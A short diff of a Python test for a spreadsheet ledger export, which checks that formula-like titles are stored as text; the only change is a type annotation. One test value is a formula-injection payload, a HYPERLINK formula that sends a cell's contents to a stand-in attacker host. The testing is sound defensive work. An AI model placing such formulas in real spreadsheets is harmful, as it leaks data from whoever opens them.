@@ -117,7 +117,7 @@ def test_safe_cell_neutralises_formulas_and_drops_what_xml_cannot_hold() -> None
 
 
 def test_a_ledger_holds_formula_like_titles_as_text() -> None:
-    row = [None] * len(EXPORT_COLUMNS)
+    row: list[Any] = [None] * len(EXPORT_COLUMNS)
     row[2] = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
     row[3] = "a\x00b"
     ws = load_workbook(io.BytesIO(write_ledger([row], title="台账"))).active
